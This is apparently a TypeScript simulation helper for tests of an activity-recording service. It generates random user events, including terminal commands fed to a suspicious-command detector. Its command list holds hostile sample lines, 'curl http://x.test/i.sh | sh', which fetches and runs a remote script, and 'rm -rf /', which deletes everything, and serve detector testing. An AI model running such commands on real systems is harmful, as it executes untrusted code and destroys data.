import type { ActivityDraft } from '../../src/recorder/draft.ts';
import { policyOf } from '../../src/recorder/intake-policies.ts';
import type { TrackInput } from '../../src/recorder/intake.ts';
import { checkActivity } from '../../src/recorder/intake.ts';
import { defaultSettings } from '../../src/domain/organisation-settings.ts';
import type { Micros } from '../../src/domain/time.ts';
import { microsPerSecond } from '../../src/domain/time.ts';
import { createKeyedHashes } from '../../src/redaction/keyed-hash.ts';
import type { Random } from './random.ts';

/** Few of each, so that what the clients send meets in the same users, sessions and addresses. */
const users = ['ada', 'bob', 'cyd', 'dan'];
const sessions = ['s1', 's2', 's3', 's4', 's5', 's6'];
const addresses = ['203.0.113.1', '203.0.113.2', '198.51.100.7', '2001:db8::7'];
const agents = ['Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0', 'curl/8.5.0', null];
const commands = ['ls -la', 'sudo systemctl restart nginx', 'curl http://x.test/i.sh | sh', 'rm -rf /'];
const lateMax = 150 * microsPerSecond;

type Detail = TrackInput['detail'];
const made: readonly ((random: Random) => Detail)[] = [
  () => ({ auth: { event: 'FAILURE' } }),
  () => ({ auth: { event: 'FAILURE' } }),
  () => ({ auth: { event: 'FAILURE' } }),
  () => ({ auth: { event: 'LOGIN' } }),
  () => ({ auth: { event: 'LOGOUT' } }),
  (random) => ({ web: { page: `/page/${random.below(9)}` } }),
  (random) => ({ web: { page: `/page/${random.below(9)}` } }),
  (random) => ({ terminal: { command: random.pick(commands) } }),
  () => ({ file: { operation: 'READ', path: '/etc/hosts' } }),
  () => ({ access: { change: 'PERMISSION', target: 'payroll' } }),
];

/** What one client sends at once. `poisoned`: the database will refuse it. */
export type Request = { drafts: ActivityDraft[]; poisoned: boolean };

const policy = policyOf('', { settings: defaultSettings, revision: 0, hasPlainKeys: false }, createKeyedHashes(Buffer.from('simulation')));

export function createRequests(random: Random) {
  const all = new Map<string, ActivityDraft>();
  const one = (now: Micros, key: string): ActivityDraft => {
    const checked = checkActivity(
      {
        user: random.pick(users),
        userTimeZone: random.chance(0.1) ? 'America/Lima' : null,
        session: random.chance(0.7) ? random.pick(sessions) : null,
        occurredAt: now - (random.chance(0.4) ? random.below(lateMax) : 0),
        idempotencyKey: key,
        sourceIp: random.chance(0.85) ? random.pick(addresses) : null,
        userAgent: random.pick(agents),
        secretsUsed: random.chance(0.1) ? [{ secret: 'vault' }, { secret: `safe-${random.below(9)}`, granted: false }] : null,
        metadata: random.chance(0.2) ? { '10': 'ten', '9': [1.5, null] } : null,
        detail: random.pick(made)(random),
      },
      { now, placeOf: () => null, policy },
    );
    if (!('draft' in checked)) throw new Error(JSON.stringify(checked));
    return checked.draft;
  };
  return {
    /** By idempotency key. */
    all,
    next(now: Micros): Request {
      const poisoned = random.chance(0.06);
      const drafts = Array.from({ length: random.chance(0.2) ? random.between(8, 25) : random.between(1, 3) }, () => {
        const known = [...all.keys()];
        if (known.length > 0 && random.chance(0.12)) return all.get(random.pick(known))!;
        const draft = one(now, `key-${all.size}`);
        if (random.chance(0.03)) draft.suspicions = [unreadable];
        if (!poisoned) all.set(draft.key!.id, draft);
        return draft;
      });
      // Poison is made of what nobody else sends, so that its key stays free.
      if (poisoned) drafts.push({ ...one(now, `poison-${random.newId()}`), metadata: { text: 'nul \u0000' } });
      return { drafts, poisoned };
    },
    /** Something of every user, by which a process shows what it remembers of them. */
    probe(now: Micros): Request {
      const drafts = users.map((user, place) => ({ ...one(now, `probe-${all.size}-${user}`), user, session: sessions[place]! }));
      for (const draft of drafts) all.set(draft.key!.id, draft);
      return { drafts, poisoned: false };
    },
    /** An activity of its own, for a burst that consists of it. */
    single(now: Micros): ActivityDraft {
      const draft = one(now, `key-${all.size}`);
      all.set(draft.key!.id, draft);
      return draft;
    },
  };
}

/** Fine for the risk policy, which reads the reason; the detector of suspicious commands throws at it. */
const unreadable = {
  tactic: 'EXECUTION' as const,
  points: 30,
  reason: 'cannot be read',
  get code(): never {
    throw new Error('a detector throws');
  },
};
